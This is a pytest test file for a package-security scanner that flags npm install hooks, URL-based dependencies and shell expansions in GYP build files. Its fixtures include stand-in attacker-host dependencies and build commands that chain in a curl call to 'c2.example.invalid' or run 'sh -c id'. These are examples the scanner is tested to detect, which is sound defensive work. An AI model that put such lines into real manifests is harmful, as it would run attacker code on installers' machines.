"""Manifests of npm and build files of GYP: what an installation runs, what a package begins with, what lies at an address."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.errors import InvalidInput
from pratique.facts.scan.content import Content, Reader, Reading
from pratique.facts.scan.engine import lexicon
from pratique.facts.scan.languages import gyp, npm
from pratique.facts.scan.languages.gyp.view import expansions, is_ordinary
from pratique.facts.scan.languages.language import Language
from pratique.facts.scan.languages.npm.view import started
from pratique.facts.scan.observation import Context


def seen(text: str, path: str = "package/package.json", language: Language = npm.LANGUAGE) -> Reading:
    context = Context.GYP if path.endswith("binding.gyp") else Context.MODULE_TOP
    content = Content(path, language.id, text.encode(), context)
    reading = Reading(path)
    language.read(content, Reader(content, reading, lexicon()))
    return reading


def texts(reading: Reading, label: str) -> set[str]:
    return {each.text for each in reading.observations if each.label == label}


def manifest(**more: object) -> str:
    return json.dumps({"name": "demo", "version": "1.0.0", **more}, indent=2)


def test_scripts_of_an_installation_are_told_of_and_handed_on() -> None:
    found = seen(manifest(scripts={"test": "node t.js", "preinstall": "node setup.mjs", "postinstall": "sh ./run.sh"}))
    assert texts(found, "pkg.install_hook") == {"preinstall: node setup.mjs", "postinstall: sh ./run.sh"}
    hooks = [each for each in found.observations if each.label == "pkg.install_hook"]
    assert {each.context for each in hooks} == {Context.NPM_LIFECYCLE}
    assert {each.line for each in hooks} == {6, 7}
    waiting = [(each.language, each.data, each.context) for each in found.waiting]
    assert waiting == [
        ("shell", b"node setup.mjs", Context.NPM_LIFECYCLE),
        ("shell", b"sh ./run.sh", Context.NPM_LIFECYCLE),
    ]


def test_scripts_of_those_who_build_it_are_no_hooks() -> None:
    found = seen(manifest(scripts={"prepare": "husky", "prepublishOnly": "npm test"}))
    assert not texts(found, "pkg.install_hook")
    assert {each.context for each in found.waiting} == {Context.FUNCTION}


@pytest.mark.parametrize(
    ("path", "own"),
    [
        ("package/package.json", True),
        ("package.json", True),
        ("package/node_modules/inner/package.json", True),
        ("package/node_modules/@a/inner/package.json", True),
        ("package/templates/app/package.json", False),
        ("package/test/fixtures/node_modules_/package.json", False),
    ],
)
def test_only_manifests_that_an_installation_reads_count(path: str, *, own: bool) -> None:
    found = seen(
        manifest(scripts={"install": "node x.js"}, dependencies={"a": "https://c2.example.invalid/a.tgz"}), path
    )
    assert bool(found.observations) is own


@pytest.mark.parametrize(
    "spec",
    [
        "https://c2.example.invalid/a.tgz",
        "http://192.0.2.7/a.tgz",
        "git+https://c2.example.invalid/a.git",
        "git+ssh://git@c2.example.invalid/a.git",
        "git://c2.example.invalid/a.git#main",
        "github:demo/a",
        "gist:0123",
        "demo/a",
        "demo/a#0123456789012345678901234567890123456789",
    ],
)
@pytest.mark.parametrize("kind", ["dependencies", "optionalDependencies", "peerDependencies"])
def test_a_dependency_at_an_address_is_told_of(spec: str, kind: str) -> None:
    assert texts(seen(manifest(**{kind: {"a": spec}})), "pkg.url_dependency") == {f"a: {spec}"}


@pytest.mark.parametrize(
    "spec", ["^1.0.0", "*", "latest", "npm:b@1", "workspace:*", "file:../a", "link:../a", "1 - 2", "", "next"]
)
def test_a_dependency_on_a_release_is_none(spec: str) -> None:
    assert not texts(seen(manifest(dependencies={"a": spec})), "pkg.url_dependency")


def test_what_only_developers_install_is_none() -> None:
    assert not texts(seen(manifest(devDependencies={"a": "github:demo/a"})), "pkg.url_dependency")


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("node setup.mjs", ["setup.mjs"]),
        ("node ./lib/setup", ["./lib/setup"]),
        ("./tools/setup", ["./tools/setup"]),
        ("node -r ./hook.js index.js --quiet", ["./hook.js", "index.js"]),
        ("A=1 bash run.sh && node b.cjs || true", ["run.sh", "b.cjs"]),
        ("npx tsx install.ts", ["install.ts"]),
        ("node-gyp rebuild", []),
        ("prebuild-install || node-gyp rebuild", []),
        ("node -e 'console.log(1)'", []),
        ("echo done", []),
        ("'", []),
    ],
)
def test_the_files_that_a_command_starts_are_found(command: str, files: list[str]) -> None:
    assert started(command) == files


def test_where_a_program_begins_that_loads_the_package() -> None:
    found = seen(
        manifest(main="lib/a.js", bin={"x": "bin/x"}, exports={".": {"import": "./esm.mjs", "require": ["./c.cjs"]}})
    )
    assert texts(found, "code.own_file") == {"lib/a.js", "bin/x", "./esm.mjs", "./c.cjs"}
    assert texts(seen(manifest()), "code.own_file") == {"index.js"}


@pytest.mark.parametrize("text", ["", "{", "[]", "1", "nul", '{"a": ' * 5_000])
def test_what_is_no_manifest_is_refused(text: str) -> None:
    with pytest.raises(InvalidInput):
        seen(text)


@pytest.mark.parametrize("scripts", [[], 1, None, {"install": 1}, {"install": ""}, {"install": None}])
def test_odd_scripts_are_none(scripts: object) -> None:
    assert not texts(seen(manifest(scripts=scripts)), "pkg.install_hook")


def test_the_first_mark_of_a_file_is_no_part_of_it() -> None:
    assert texts(seen("\ufeff" + manifest(scripts={"install": "x"})), "pkg.install_hook") == {"install: x"}


@given(
    st.recursive(
        st.none() | st.integers() | st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
    )
)
def test_any_value_in_a_manifest_is_read(value: object) -> None:
    seen(json.dumps({"scripts": value, "dependencies": value, "exports": value, "main": value, "bin": value}))


def test_commands_of_a_build_file_are_handed_on() -> None:
    text = """{
  # "sources": ["<!(node not-this.js)"],
  "targets": [{
    "sources": ["<!@(node list.js (a) b)"],
    "include_dirs": ["<!(node -p \\"require('node-addon-api').include\\")"],
    "actions": [{"action": ["sh", "build.sh", "x"]}],
  }]
}"""
    found = seen(text, "package/binding.gyp", gyp.LANGUAGE)
    waiting = [(each.data.decode(), each.context) for each in found.waiting]
    assert waiting == [
        ("node list.js (a) b", Context.GYP),
        ("node -p \"require('node-addon-api').include\"", Context.GYP),
        ("sh build.sh x", Context.GYP),
    ]
    assert texts(found, "code.own_file") == {"list.js", "build.sh"}


@pytest.mark.parametrize(
    ("command", "ordinary"),
    [
        ("node -p \"require('node-addon-api').include_dir\"", True),
        ("node -e \"require('nan')\"", True),
        ("node -p \"require('path').dirname(require.resolve('nan'))\"", False),
        ("pkg-config --cflags libpng", True),
        ("uname -s", True),
        ("node index.js", False),
        ("node -p \"require('./index.js')\" ; curl c2.example.invalid", False),
        ("echo $(curl c2.example.invalid)", False),
        ("sh -c id", False),
    ],
)
def test_ordinary_questions_of_build_files_are_known(command: str, *, ordinary: bool) -> None:
    assert is_ordinary(command) is ordinary


@given(st.text(alphabet="<!@()ab\n \"'"))
def test_any_text_is_searched_for_expansions(text: str) -> None:
    assert all(line >= 1 for line, _ in expansions(text))
